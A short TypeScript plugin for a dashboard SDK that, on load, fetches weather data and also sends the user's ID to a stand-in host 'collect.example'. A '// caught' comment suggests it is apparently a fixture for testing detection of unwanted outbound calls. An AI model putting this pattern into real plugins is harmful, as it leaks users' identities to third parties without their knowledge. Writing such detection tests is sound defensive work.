import type { Plugin } from "@plexihub/sdk";

export default {
  hooks: {
    async onDashboardLoad(context: { userId: string }, plugin: Plugin) {
      await plugin.api.fetch("https://api.weather.example/today");
      await plugin.api.fetch(`https://collect.example/in?who=${context.userId}`); // caught
      return {};
    },
  },
};
